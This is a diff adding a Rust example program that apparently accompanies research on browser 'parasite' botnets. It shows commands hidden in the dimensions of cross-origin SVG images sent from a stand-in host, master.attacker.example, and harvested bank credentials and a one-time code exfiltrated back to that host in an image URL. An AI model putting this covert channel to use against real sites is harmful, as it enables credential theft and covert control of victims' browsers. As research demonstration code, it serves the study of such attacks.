@@ -1,0 +1,55 @@
+//! Demonstrates the C&C covert channel of §VI-C: commands travel from the
+//! master to the parasite encoded in the width/height of cross-origin SVG
+//! images; stolen data travels back encoded in request URLs.
+//!
+//! Run with: `cargo run -p parasite --example covert_channel`
+
+use parasite::cnc::{
+    decode_dimensions, downstream_goodput_bytes_per_sec, encode_upstream, CncServer, Command,
+    ImageDimensions,
+};
+
+fn main() {
+    let mut server = CncServer::new("master.attacker.example");
+
+    // The master queues a command for its bots.
+    server.queue_command(Command::PropagateTo("https://bank.example/".into()));
+    let images = server.serve_next_command();
+    println!("command encoded into {} SVG images:", images.len());
+    for (index, response) in images.iter().enumerate() {
+        println!("  image {index}: {} ({} bytes on the wire)", response.body.as_text(), response.body.len());
+    }
+
+    // The parasite only sees the images' dimensions (SOP hides everything
+    // else about a cross-origin image) — and that is enough.
+    let dims: Vec<ImageDimensions> = images
+        .iter()
+        .map(|r| {
+            let text = r.body.as_text();
+            let width = text.split("width=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
+            let height = text.split("height=\"").nth(1).unwrap().split('"').next().unwrap().parse().unwrap();
+            ImageDimensions { width, height }
+        })
+        .collect();
+    let command = Command::from_bytes(&decode_dimensions(&dims).expect("complete sequence")).expect("valid command");
+    println!("\nparasite decoded: {command:?}");
+
+    // Upstream: the parasite exfiltrates harvested credentials in an image URL.
+    let stolen = b"site=bank.example&user=alice&pass=correct-horse&otp=831245";
+    let url = encode_upstream("master.attacker.example", "campaign-0", stolen);
+    println!("\nexfiltration request the page issues: {url}");
+    server.receive_upstream(&url);
+    println!(
+        "master received {} bytes: {}",
+        server.exfiltrated()[0].data.len(),
+        String::from_utf8_lossy(&server.exfiltrated()[0].data)
+    );
+
+    println!("\ndownstream goodput model (4 bytes per ~100-byte SVG):");
+    for parallel in [1u32, 5, 10, 25, 50] {
+        println!(
+            "  {parallel:>2} parallel requests @ 1 ms RTT -> {:>7.1} KB/s",
+            downstream_goodput_bytes_per_sec(parallel, 1.0) / 1000.0
+        );
+    }
+}
